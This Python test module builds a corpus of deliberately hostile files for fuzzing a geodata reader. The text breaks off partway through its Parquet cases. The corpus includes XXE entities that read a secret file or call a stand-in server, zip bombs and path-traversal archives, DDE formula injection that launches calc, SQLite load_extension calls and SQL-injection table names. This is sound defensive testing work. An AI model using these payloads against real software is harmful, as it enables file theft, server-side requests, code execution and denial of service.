"""Hostile files of every format that Lode reads, the same in each run: ``corpus`` yields a name and a function that writes it.

None is taken from elsewhere. Each tries one of: reading another file, a request over a network, writing, endless work,
more memory than a table needs, a parser's stack, or content that is not what it seems.
"""

import gzip
import io
import json
import random
import sqlite3
import struct
import tempfile
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import geopandas
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pyogrio
import shapely
from tests.lodebase.cut_files import cut_cases

SECRET = "marker-of-a-secret-file"
MIB = 2**20


@dataclass(frozen=True, slots=True)
class Target:
    """What a file may try to reach: a file with a secret, and a server that records requests."""

    secret: Path
    address: str


Writer = Callable[[Path], None]
Case = tuple[str, Writer]


def corpus(target: Target) -> Iterator[Case]:
    """Every case by name; the name's ending is the file's."""
    for part in (_disguised, _csv, _zip, _geopackage, _geojson, _kml, _xlsx, _parquet, _flatgeobuf, _shapefile, _large):
        yield from part(target)
    yield from cut_cases()


def _bytes(content: bytes | str) -> Writer:
    return lambda path: _written(path, content)


def _written(path: Path, content: bytes | str) -> None:
    path.write_bytes(content.encode() if isinstance(content, str) else content)


def zipped(entries: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of entries."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return made.getvalue()


def _frame(rows: int = 3) -> geopandas.GeoDataFrame:
    columns = {"id": [f"r{i}" for i in range(rows)], "name": ["a"] * rows}
    return geopandas.GeoDataFrame(columns, geometry=[shapely.Point(10 + i, 20) for i in range(rows)], crs=4326)


# --- content of another format under a name that is trusted ----------------------------------------------------------


def _disguised(target: Target) -> Iterator[Case]:
    secret, address = target.secret, target.address
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    payloads = {
        "vrt-file": _vrt(f"{secret}"),
        "vrt-csv": _vrt(f"CSV:{secret}"),
        "vrt-fetch": _vrt(f"/vsicurl/{address}/a.gpkg"),
        "vrt-write": _vrt(str(secret), f"VACUUM INTO '{secret.parent}/written.db'"),
        "vrt-self": '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource relativeToVRT="1">a</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>",
        "gdalg": json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {secret}"}),
        "gml-entity": f'{entity}<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml">&e;</gml:FeatureCollection>',
        "gml-link": f'<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<gml:featureMember xlink:href="{address}/a.gml"/></gml:FeatureCollection>',
        "kml-entity": f"{entity}<kml><Document><Placemark><name>&e;</name></Placemark></Document></kml>",
        "gpx": '<?xml version="1.0"?><gpx version="1.1"><wpt lat="1" lon="2"><name>a</name></wpt></gpx>',
        "georss": '<?xml version="1.0"?><rss version="2.0"><channel><item><title>a</title></item></channel></rss>',
        "wfs": f"<OGRWFSDataSource><URL>{address}/wfs?</URL></OGRWFSDataSource>",
        "oapif": f"OAPIF:{address}/collections",
        "topojson": '{"type":"Topology","objects":{"a":{"type":"GeometryCollection","geometries":[]}},"arcs":[]}',
        "esrijson": '{"geometryType":"esriGeometryPoint","fields":[],"features":[{"geometry":{"x":1,"y":2},"attributes":{}}]}',
        "pgdump": "SET standard_conforming_strings = ON;\nCREATE TABLE a (id int);\n",
        "html": "<!doctype html><html><script>alert(1)</script></html>",
        "shell": "#!/bin/sh\ntouch written\n",
    }
    for name, content in payloads.items():
        for ending in ("csv", "xlsx", "gpkg", "shp", "geojson", "kml", "fgb", "parquet"):
            yield f"disguised-{name}.{ending}", _bytes(content)
        yield f"disguised-{name}-in-zip.zip", _bytes(zipped({"a.shp": content, "a.dbf": content, "a.shx": content}))


def _vrt(source: str, query: str = "SELECT * FROM secret") -> str:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource relativeToVRT="0">{source}</SrcDataSource>'
        f'<SrcSQL dialect="SQLITE">{query}</SrcSQL></OGRVRTLayer></OGRVRTDataSource>'
    )


# --- delimited text --------------------------------------------------------------------------------------------------


def _csv(target: Target) -> Iterator[Case]:
    head = "id,name,lon,lat\n"
    texts: dict[str, bytes | str] = {
        "open-quote": head + '1,"a,2,3\n' + "2,b,2,3\n" * 50_000,
        "nul": head.encode() + b"1,a\0,2,3\n",
        "no-newline": "a" * 20 * MIB,
        "one-long-cell": head + "1," + "x" * 5 * MIB + ",2,3\n",
        "long-cells": head + "".join(f"{i},{'x' * 200_000},2,3\n" for i in range(200)),
        "columns-10000": ",".join(f"c{i}" for i in range(10_000)) + "\n1\n",
        "columns-million": "," * 1_000_000 + "\n1\n",
        "double-columns": "id,id,name\n1,2,a\n",
        "only-quotes": '"' * 100_001,
        "only-commas": "," * 100_000,
        "returns": head.replace("\n", "\r") + "1,a,2,3\r" * 1_000,
        "mixed-ends": head + "1,a,2,3\r2,b,3,4\n\r\n3,c,4,5",
        "decimals": head + f"1,a,{'1.' + '1' * 1_000},2\n",
        "exponent": head + "1,a,1e999,-1e999\n2,b,1e-999999999,NaN\n3,c,inf,-inf\n",
        "digits": head + f"1,a,{'9' * 100_000},2\n",
        "escape": head + "1,\x1b[2J\x1b]0;title\x07,2,3\n",
        "bidi": head + "1,\u202eevil\u2066,2,3\n",
        "formula": head + "=cmd|' /C calc'!A0,@SUM(1),+1,-1\n",
        "utf16": (head + "1,a,2,3\n").encode("utf-16"),
        "utf32": (head + "1,a,2,3\n").encode("utf-32"),
        "utf7": (head + "+ADw-script+AD4-,a,2,3\n"),
        "bad-gb18030": head.encode() + "1,矿床,2,3\n".encode("gb18030") * 50 + b"2,\x81\xff\xfe,2,3\n",
        "surrogate": head.encode() + b"1,\xed\xa0\x80,2,3\n",
        "mark-alone": b"\xef\xbb\xbf",
        "blanks": " \n" * 100_000,
        "rows-of-one": head + "1\n" * 100_000,
        "ragged": head + "".join("1," * (i % 50) + "\n" for i in range(5_000)),
        "same-key": head + "1,a,2,3\n" * 20_000,
        "delimiters": "".join(f"a{',;|	'[i % 4]}b" for i in range(10_000)),
        "path-as-name": head + f"{target.secret},/etc/passwd,2,3\n",
    }
    for name, text in texts.items():
        yield f"csv-{name}.csv", _bytes(text)


# --- archives --------------------------------------------------------------------------------------------------------


def _zip(target: Target) -> Iterator[Case]:
    bomb = zipped({"a.shp": bytes(60 * MIB)})
    yield "zip-bomb.zip", _bytes(bomb)
    yield "zip-many-small-bombs.zip", _bytes(zipped({f"{i}.shp": bytes(9 * MIB) for i in range(40)}))
    yield "zip-nested.zip", _bytes(zipped({"a.zip": bomb, "a.shp": bomb}))
    yield "zip-many.zip", _bytes(zipped({f"{i}.shp": b"" for i in range(10_001)}, zipfile.ZIP_STORED))
    for number, name in enumerate(
        ("../a.shp", "/a.shp", "C:\\a.shp", "a/../../b.shp", "..\\a.shp", "./a.shp", "a\0.shp", "{a}.shp")
    ):
        yield f"zip-path-{number}.zip", _bytes(zipped({name: b"x"}))
    yield "zip-link.zip", _bytes(_with_link(target.secret))
    yield "zip-cut.zip", _bytes(bomb[: len(bomb) // 2])
    yield "zip-comment.zip", _bytes(b"PK\x05\x06" + bytes(16) + b"\xff\xff" + b"x" * 65_535)
    yield "zip-lie.zip", _bytes(bomb.replace((60 * MIB).to_bytes(4, "little"), (4).to_bytes(4, "little")))
    yield "zip-head-alone.zip", _bytes(b"PK\x03\x04")
    yield "zip-twice.zip", _bytes(_twice())
    yield "zip-shp-folder.zip", _bytes(zipped({"a.shp/": b"", "a.shp/b.shp": b"x"}))
    yield "zip-vsi-name.zip", _bytes(zipped({f"vsicurl/{target.address}/a.shp": b"x"}))


def _with_link(secret: Path) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        link = zipfile.ZipInfo("a.shp")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(secret))
    return made.getvalue()


def _twice() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name in ("a.shp", "b.shp"):
            archive.writestr(name, b"x")
        archive.filelist[1].filename = "a.shp"
    return made.getvalue()


# --- GeoPackage ------------------------------------------------------------------------------------------------------

_LAYER = (
    "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('evil', 'features', 'evil', 4326)",
    "INSERT INTO gpkg_geometry_columns VALUES ('evil', 'geometry', 'GEOMETRY', 4326, 0, 0)",
)


def _geopackage(target: Target) -> Iterator[Case]:
    virtual = "INSERT INTO sqlite_master VALUES ('table', 'evil', 'evil', 0, 'CREATE VIRTUAL TABLE evil USING {}')"
    wkb = shapely.to_wkb(shapely.Point(1, 2))
    cases: dict[str, tuple[str, ...]] = {
        "view": ("CREATE VIEW evil AS SELECT fid, geom AS geometry, id FROM sound", *_LAYER),
        "view-endless": (
            "CREATE VIEW evil AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS fid FROM n",
            *_LAYER,
        ),
        "view-of-attributes": (
            "CREATE VIEW evil AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS fid FROM n",
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('evil', 'attributes', 'evil')",
        ),
        "view-unlisted": ("CREATE VIEW evil AS SELECT randomblob(1000000000) AS id",),
        "trigger": ("CREATE TRIGGER evil AFTER UPDATE ON sound BEGIN DELETE FROM sound; END",),
        "trigger-instead": (
            "CREATE VIEW evil AS SELECT * FROM sound",
            "CREATE TRIGGER harm INSTEAD OF INSERT ON evil BEGIN SELECT 1; END",
        ),
        "generated-endless": (
            "CREATE TABLE evil (fid INTEGER PRIMARY KEY, a BLOB GENERATED ALWAYS AS (zeroblob(900000000)) VIRTUAL)",
            "INSERT INTO evil (fid) VALUES (1)",
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('evil', 'attributes', 'evil')",
        ),
        "generated-blobs": (
            "CREATE TABLE evil (fid INTEGER PRIMARY KEY, a TEXT GENERATED ALWAYS AS (hex(zeroblob(5000000))) VIRTUAL)",
            "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n LIMIT 5000) INSERT INTO evil (fid) SELECT x FROM n",
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('evil', 'attributes', 'evil')",
        ),
        "blobs": (
            "CREATE TABLE evil (fid INTEGER PRIMARY KEY, a BLOB)",
            "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n LIMIT 60) "
            "INSERT INTO evil SELECT x, zeroblob(1000000) FROM n",
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('evil', 'attributes', 'evil')",
        ),
        "system-nested": ("UPDATE gpkg_spatial_ref_sys SET definition = '" + "GEOGCS[" * 20_000 + "' WHERE srs_id = 4326",),
        "system-link": (
            f"UPDATE gpkg_spatial_ref_sys SET definition = '{target.address}/crs', organization = 'x', "
            "organization_coordsys_id = 1 WHERE srs_id = 4326",
        ),
        "system-file": (
            f"UPDATE gpkg_spatial_ref_sys SET definition = '{target.secret}', organization = 'x', "
            "organization_coordsys_id = 1 WHERE srs_id = 4326",
        ),
        "no-contents": ("DELETE FROM gpkg_contents",),
        "many-layers": tuple(
            statement
            for number in range(500)
            for statement in (
                f"CREATE TABLE t{number} (fid INTEGER PRIMARY KEY)",
                "INSERT INTO gpkg_contents (table_name, data_type, identifier) "
                f"VALUES ('t{number}', 'attributes', 't{number}')",
            )
        ),
        "many-columns": ("CREATE TABLE wide (" + ", ".join(f"c{i} TEXT" for i in range(1_999)) + ")",),
        "quote-name": (
            'CREATE TABLE "a\'; DROP TABLE sound; --" (fid INTEGER PRIMARY KEY)',
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) "
            "VALUES ('a''; DROP TABLE sound; --', 'attributes', 'q')",
        ),
        "escape-name": ('CREATE TABLE "\x1b[2J" (fid INTEGER PRIMARY KEY)',),
        "geometry-garbage": ("UPDATE sound SET geom = randomblob(50)",),
        "geometry-empty": ("UPDATE sound SET geom = zeroblob(0)",),
        "geometry-huge-count": (f"UPDATE sound SET geom = x'47500001E6100000{'0102000000FFFFFFFF'}{wkb.hex()}'",),
        "extension": ("INSERT INTO gpkg_extensions VALUES ('sound', NULL, 'evil_code', '/tmp/evil.so', 'read-write')",),
        "data-columns": ("UPDATE gpkg_contents SET min_x = 1e308, max_x = -1e308, last_change = 'never'",),
        "ogr-system": ("CREATE TABLE IF NOT EXISTS ogr_empty_table (a)", "CREATE TABLE ogr_system_metadata (sql TEXT)"),
        "check": ("CREATE TABLE c (a CHECK (load_extension('/tmp/evil.so')))",),
        "default": ("CREATE TABLE d (fid INTEGER PRIMARY KEY, a DEFAULT (load_extension('x')))",),
        "partial-index": ("CREATE INDEX i ON sound (id) WHERE id LIKE '%a%a%a%a%'",),
    }
    for module in (
        "VirtualText",
        "VirtualShape",
        "VirtualOGR",
        "VirtualXPath",
        "fts5(a)",
        "dbstat",
        "csv(filename=x)",
        "rtree_i32",
    ):
        text = module if "(" in module else f"{module}(''{target.secret}'', ''utf-8'', 1)"
        cases[f"virtual-{module.split('(')[0]}"] = (virtual.format(text), *_LAYER)
    for name, statements in cases.items():
        yield f"gpkg-{name}.gpkg", _gpkg(statements)
    yield "gpkg-nested-geometry.gpkg", _gpkg((), _nested_wkb(20_000))
    yield "gpkg-nested-multi.gpkg", _gpkg((), _nested_wkb(20_000, 6))
    yield "gpkg-nested-a-little.gpkg", _gpkg((), _nested_wkb(12))
    yield "gpkg-sqlite-alone.gpkg", _gpkg_alone
    for seed in range(12):
        yield f"gpkg-damaged-{seed}.gpkg", _damaged("gpkg", seed)


def _gpkg(statements: tuple[str, ...], geometry: bytes | None = None) -> Writer:
    def write(path: Path) -> None:
        pyogrio.write_dataframe(_frame(), path, layer="sound")
        connection = sqlite3.connect(path)
        connection.execute("PRAGMA writable_schema = ON")
        for (trigger,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            connection.execute(f'DROP TRIGGER "{trigger}"')
        for statement in statements:
            connection.execute(statement)
        if geometry is not None:
            header = b"GP\x00\x01" + (4326).to_bytes(4, "little")
            connection.execute("UPDATE sound SET geom = ?", (header + geometry,))
        connection.commit()
        connection.close()

    return write


def _gpkg_alone(path: Path) -> None:
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE a (id)")
    connection.commit()
    connection.close()


def _nested_wkb(levels: int, kind: int = 7) -> bytes:
    point: bytes = shapely.to_wkb(shapely.Point(1, 2))
    return (b"\x01" + kind.to_bytes(4, "little") + b"\x01\x00\x00\x00") * levels + point


def _damaged(kind: str, seed: int) -> Writer:
    def write(path: Path) -> None:
        chance = random.Random(f"{kind} {seed}")
        if kind == "parquet":
            _frame(200).to_parquet(path)
        else:
            pyogrio.write_dataframe(_frame(200), path, layer="sound")
        data = bytearray(path.read_bytes())
        for _ in range(chance.choice((1, 4, 64))):
            at = chance.randrange(len(data) - 8)
            data[at : at + 8] = chance.choice((b"\xff" * 8, bytes(8), chance.randbytes(8), b"\x7f" + b"\xff" * 7))
        path.write_bytes(data[: chance.choice((len(data), len(data), len(data) // 2))])

    return write


# --- GeoJSON ---------------------------------------------------------------------------------------------------------


def _geojson(target: Target) -> Iterator[Case]:
    def feature(geometry: str = '{"type":"Point","coordinates":[1,2]}', properties: str = '{"id":"1"}') -> str:
        return f'{{"type":"Feature","properties":{properties},"geometry":{geometry}}}'

    def collection(*features: str, more: str = "") -> str:
        return f'{{"type":"FeatureCollection",{more}"features":[{",".join(features)}]}}'

    def nested(levels: int) -> str:
        head = '{"type":"GeometryCollection","geometries":['
        return head * levels + '{"type":"Point","coordinates":[1,2]}' + "]}" * levels

    texts: dict[str, str] = {
        "arrays": "[" * 200_000,
        "objects": '{"a":' * 100_000 + "1" + "}" * 100_000,
        "deep-properties": collection(feature(properties='{"a":' + "[" * 5_000 + "]" * 5_000 + "}")),
        "collections-5": collection(feature(nested(5))),
        "collections-10": collection(feature(nested(10))),
        "collections-5000": collection(feature(nested(5_000))),
        "crs-link": collection(feature(), more=f'"crs":{{"type":"link","properties":{{"href":"{target.address}/crs"}}}},'),
        "crs-file": collection(feature(), more=f'"crs":{{"type":"name","properties":{{"name":"{target.secret}"}}}},'),
        "crs-url": collection(feature(), more=f'"crs":{{"type":"name","properties":{{"name":"{target.address}/x"}}}},'),
        "crs-nested": collection(feature(), more='"crs":{"type":"name","properties":{"name":"' + "PROJCS[" * 9_000 + '"}},'),
        "crs-number": collection(feature(), more='"crs":{"type":"EPSG","properties":{"code":99999999999}},'),
        "numbers": collection(feature('{"type":"Point","coordinates":[1e400,-1e400]}')),
        "decimals": collection(feature(f'{{"type":"Point","coordinates":[1.{"1" * 100_000},2]}}')),
        "nan": collection(feature('{"type":"Point","coordinates":[NaN,Infinity]}')),
        "dimensions": collection(feature('{"type":"Point","coordinates":[' + ",".join(["1"] * 100_000) + "]}")),
        "empty-coordinates": collection(feature('{"type":"Polygon","coordinates":[[[]]]}')),
        "wrong-types": collection(feature('{"type":7,"coordinates":"x"}', "[1]")),
        "same-names": collection(feature(properties='{"id":1,"id":2,"ID":3}')),
        "columns": collection(feature(properties="{" + ",".join(f'"c{i}":1' for i in range(9_000)) + "}")),
        "mixed": collection(*(feature(properties=f'{{"a":{v}}}') for v in ("1", '"x"', "[1]", '{"b":1}', "null", "true"))),
        "long-text": collection(feature(properties=f'{{"a":"{"x" * 3_000_000}"}}')),
        "escapes": collection(feature(properties='{"a":"' + "\\u0000" * 100_000 + '"}')),
        "half-surrogate": collection(feature(properties='{"a":"\\ud800"}')),
        "control": collection(feature(properties='{"\\u001b[2J":"\\u202e"}')),
        "open-string": '{"type":"FeatureCollection","features":[{"type":"' + "a" * 5_000_000,
        "backslashes": '{"a":"' + "\\" * 3_000_001,
        "open": collection(feature())[:-40],
        "sequence": (feature() + "\n") * 1_000,
        "record-separators": "".join(f"\x1e{feature()}\n" for _ in range(1_000)),
        "line": collection(feature('{"type":"LineString","coordinates":[' + ",".join(["[1,2]"] * 300_000) + "]}")),
        "null-features": collection(*["null"] * 10_000),
        "topology": '{"type":"Topology","arcs":[' + "[[0,0]]," * 10_000 + "[]]}",
        "jsonfg": collection(feature(), more=f'"conformsTo":["http://x"],"coordRefSys":"{target.address}",'),
    }
    for name, text in texts.items():
        yield f"geojson-{name}.geojson", _bytes(text)
    yield "geojson-utf16.geojson", _bytes(collection(feature()).encode("utf-16"))


# --- KML -------------------------------------------------------------------------------------------------------------


def _kml(target: Target) -> Iterator[Case]:
    def document(content: str, before: str = "") -> str:
        return f'<?xml version="1.0"?>{before}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{content}</Document></kml>'

    def placemark(content: str) -> str:
        return document(f"<Placemark><name>a</name>{content}</Placemark>")

    point = "<Point><coordinates>1,2</coordinates></Point>"
    laughs = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(12))
    texts: dict[str, str] = {
        "entity-file": document(
            "<Placemark><name>&e;</name></Placemark>", f'<!DOCTYPE k [<!ENTITY e SYSTEM "{target.secret}">]>'
        ),
        "entity-url": document("&e;", f'<!DOCTYPE k [<!ENTITY e SYSTEM "{target.address}/e">]>'),
        "entity-parameter": document("", f'<!DOCTYPE k [<!ENTITY % e SYSTEM "{target.address}/e.dtd"> %e;]>'),
        "doctype-url": document("", f'<!DOCTYPE kml SYSTEM "{target.address}/k.dtd">'),
        "laughs": document("<Placemark><name>&m;</name></Placemark>", f"<!DOCTYPE k [{laughs}]>"),
        "quadratic": document("&a;" * 20_000, f'<!DOCTYPE k [<!ENTITY a "{"x" * 50_000}">]>'),
        "deep": document("<Folder>" * 50_000),
        "deep-geometry": placemark("<MultiGeometry>" * 20 + point + "</MultiGeometry>" * 20),
        "deeper-geometry": placemark("<MultiGeometry>" * 20_000 + point + "</MultiGeometry>" * 20_000),
        "network-link": document(f"<NetworkLink><Link><href>{target.address}/a.kml</href></Link></NetworkLink>"),
        "include": document(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{target.secret}"/>'),
        "style": document(f"<styleUrl>{target.address}/s.kml#a</styleUrl>{'<Placemark/>' * 100}"),
        "overlay": document(f"<GroundOverlay><Icon><href>{target.address}/i.png</href></Icon></GroundOverlay>"),
        "model": placemark(f"<Model><Link><href>{target.secret}</href></Link></Model>"),
        "no-coordinates": placemark("<Point><coordinates></coordinates></Point>"),
        "words-as-coordinates": placemark("<Point><coordinates>one,two</coordinates></Point>"),
        "nan": placemark("<Point><coordinates>nan,inf</coordinates></Point>"),
        "one-number": placemark("<Point><coordinates>1</coordinates></Point>"),
        "digits": placemark(f"<Point><coordinates>{'9' * 100_000},1</coordinates></Point>"),
        "ring-of-one": placemark(
            "<Polygon><outerBoundaryIs><LinearRing><coordinates>1,2</coordinates></LinearRing></outerBoundaryIs></Polygon>"
        ),
        "no-ring": placemark("<Polygon><innerBoundaryIs/></Polygon>"),
        "many-corners": placemark(f"<LineString><coordinates>{'1,2 ' * 500_000}</coordinates></LineString>"),
        "many-columns": document(
            "<Placemark><ExtendedData>"
            + "".join(f'<Data name="c{i}"><value>1</value></Data>' for i in range(5_000))
            + "</ExtendedData></Placemark>"
        ),
        "many-attributes": document("<Folder " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>"),
        "long-name": document(f"<Placemark><name>{'x' * 3_000_000}</name></Placemark>"),
        "cut": document("<Placemark>")[:-20],
        "utf7": '<?xml version="1.0" encoding="UTF-7"?><kml>+ADw-/kml+AD4-',
        "encoding": '<?xml version="1.0" encoding="nonsense"?><kml/>',
        "other-root": '<?xml version="1.0"?><!-- <kml> --><gml><kml/></gml>',
        "comments": "<!--x-->" * 5_000 + "<kml/>",
        "open-comment": "<!--" + "-" * 100_000,
    }
    for name, text in texts.items():
        yield f"kml-{name}.kml", _bytes(text)


# --- workbooks -------------------------------------------------------------------------------------------------------


def _xlsx(target: Target) -> Iterator[Case]:
    sheet = "xl/worksheets/sheet1.xml"
    head = '<?xml version="1.0"?>{}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    cell = '<c r="A{0}" t="inlineStr"><is><t>{1}</t></is></c>'
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{target.secret}">]>'

    def rows(content: str, before: str = "") -> str:
        return head.format(before) + content + "</sheetData></worksheet>"

    first = f'<row r="1">{cell.format(1, "id")}</row>'
    changes: dict[str, dict[str, bytes | str]] = {
        "entity": {sheet: rows(f'{first}<row r="2">{cell.format(2, "&e;")}</row>', entity)},
        "entity-in-workbook": {"xl/workbook.xml": entity + "<workbook>&e;</workbook>"},
        "entity-in-relations": {"xl/_rels/workbook.xml.rels": entity + "<Relationships>&e;</Relationships>"},
        "entity-in-types": {"[Content_Types].xml": entity + "<Types>&e;</Types>"},
        "entity-in-styles": {"xl/styles.xml": entity + "<styleSheet>&e;</styleSheet>"},
        "row-numbers": {sheet: rows(first + '<row r="999999999"><c r="A999999999"><v>1</v></c></row>')},
        "row-back": {sheet: rows(first + '<row r="5"><c r="A5"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>')},
        "row-words": {sheet: rows(first + '<row r="two"><c r="A2"><v>1</v></c></row>')},
        "column-far": {sheet: rows(first + '<row r="2"><c r="ZZZZZZ2"><v>1</v></c></row>')},
        "cell-words": {sheet: rows(first + '<row r="2"><c r="11"><v>1</v></c><c r=""><v>1</v></c></row>')},
        "deep": {sheet: "<a>" * 200_000},
        "shared-missing": {sheet: rows(first + '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>')},
        "date-far": {sheet: rows(first + '<row r="2"><c r="A2" s="14"><v>1e308</v></c></row>')},
        "error-cells": {sheet: rows(first + '<row r="2"><c r="A2" t="e"><v>#REF!</v></c><c r="B2" t="zz"><v>1</v></c></row>')},
        "long-cell": {sheet: rows(first + f'<row r="2">{cell.format(2, "x" * 3_000_000)}</row>')},
        "merged-all": {sheet: rows(first).replace("</sheetData>", '</sheetData><mergeCell ref="A1:XFD1048576"/>')},
        "dimension": {sheet: rows(first).replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')},
        "formula": {sheet: rows(first + f'<row r="2"><c r="A2"><f>WEBSERVICE("{target.address}")</f></c></row>')},
        "dde": {sheet: rows(first + '<row r="2"><c r="A2"><f>cmd|\'/C calc\'!A0</f><v>1</v></c></row>')},
        "external": {
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships><Relationship Id="r" TargetMode="External" '
            f'Target="{target.address}/book.xlsx"/></Relationships>',
        },
        "sheet-outside": {
            "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="/../../../../etc/passwd"/></Relationships>'
        },
        "nul": {sheet: b"\0" * 100},
        "utf16": {sheet: rows(first).encode("utf-16")},
        "many-rows": {sheet: rows(first + "".join(f'<row r="{i}"><c r="A{i}"><v>1</v></c></row>' for i in range(2, 20_000)))},
        "many-cells": {sheet: rows(first + '<row r="2">' + "<c><v>1</v></c>" * 100_000 + "</row>")},
        "many-empty-rows": {sheet: rows(first + "<row/>" * 200_000)},
        "no-sheet": {"xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'},
    }
    for name, change in changes.items():
        yield f"xlsx-{name}.xlsx", _bytes(_book(change))
    strings = "<sst>" + "<si><t>" + "x" * 9_000_000 + "</t></si></sst>"
    yield "xlsx-strings.xlsx", _bytes(_book({f"xl/sharedStrings{i or ''}.xml": strings for i in range(20)}))
    shared = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + "<si><t>ab</t></si>" * 500_000 + "</sst>"
    )
    yield "xlsx-many-strings.xlsx", _bytes(_book({"xl/sharedStrings.xml": shared}))
    yield "xlsx-200-sheets.xlsx", _many_sheets
    yield "xlsx-macro.xlsx", _bytes(_book({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    yield "xlsx-encrypted.xlsx", _bytes(bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le") * 9)


def _book(change: dict[str, bytes | str]) -> bytes:
    made = io.BytesIO()
    book = openpyxl.Workbook()
    for row in (["id", "name"], ["1", "a"]):
        book["Sheet"].append(row)
    book.save(made)
    with zipfile.ZipFile(made) as archive:
        parts: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    return zipped(parts | change)


def _many_sheets(path: Path) -> None:
    book = openpyxl.Workbook()
    for number in range(200):
        sheet = book.create_sheet(f"s{number}")
        for row in range(50):
            sheet.append([f"{row}", "x" * 500])
    book.save(path)


# --- Parquet ---------------------------------------------------------------------------------------------------------


def _parquet(target: Target) -> Iterator[Case]:
    point = shapely.to_wkb(shapely.Point(1, 2))
    geo = {"version": "1.1.0", "primary_column": "geometry", "columns": {"geometry": {"encoding": "WKB"}}}

    def table(metadata: str | bytes, geometry: bytes = point) -> Writer:
        def write(path: Path) -> None:
            found = pa.table({"id": ["1"], "geometry": [geometry]})
            pq.write_table(found.replace_schema_metadata({"geo": metadata}), path)

        return write

    def columns(**named: pa.Array) -> Writer:
        return lambda path: pq.write_table(pa.table(named), path)

    nested: pa.Array = pa.array([1])
    for _ in range(60):
        nested = pa.ListArray.from_arrays(pa.array([0, 1], pa.int32()), nested)
    crs = {"columns": {"geometry": {"encoding": "WKB", "crs": {"type": "link", "href": f"{target.address}/crs"}}}}
    cases: dict[str, Writer] = {
        "geo-brackets": table("[" * 100_000),
        "geo-braces": table('{"a":' * 100_000),
        "geo-null": table("null"),
        "geo-list": table("[1]"),
        "geo-number": table("1" * 10_000),
        "geo-no-column": table(json.dumps({**geo, "primary_column": "nothing"})),
        "geo-encoding": table(json.dumps({**geo, "columns": {"geometry": {"encoding": "point"}}})),
        "geo-crs-link": table(json.dumps({**geo, **crs})),
        "geo-crs-file": table(json.dumps({**geo, "columns": {"geometry": {"encoding": "WKB", "crs": str(target.secret)}}})),
        "geo-not-utf8": table(b'{"\xff\xfe'),
        "geometry-nested": table(json.dumps(geo), _nested_wkb(20_000)),
        "geometry-nested-multi": table(json.dumps(geo), _nested_wkb(20_000, 5)),
        "geometry-garbage": table(json.dumps(geo), b"\x01\x03\x00\x00\x00\xff\xff\xff\xff"),
        "geometry-empty": table(json.dumps(geo), b""),
        "rows": lambda path: pq.write_table(pa.table({"id": pa.nulls(200_000_000, pa.int8())}), path),
        "long-texts": lambda path: pq.write_table(pa.table({"id": ["x" * 1_000_000] * 1_500}), path),
        "long-rows": lambda path: pq.write_table(pa.table({"id": ["x" * 900_000] * 1_500}), path),
        "columns": columns(**{f"c{i}": pa.array([1]) for i in range(9_000)}),
        "nested": columns(id=nested),
        "timestamps": columns(id=pa.array([2**62, -(2**62)], pa.int64()).cast(pa.timestamp("us"))),
        "decimals": columns(id=pa.array([10**37], pa.decimal128(38, 0)).cast(pa.decimal256(76, 0))),
        "durations": columns(id=pa.array([2**62], pa.int64()).cast(pa.duration("s"))),
        "binary": columns(id=pa.array([b"\xff\xfe\x00"])),
        "maps": columns(id=pa.array([[("a", 1)]], pa.map_(pa.string(), pa.int64()))),
        "no-columns": lambda path: pq.write_table(pa.table({}), path),
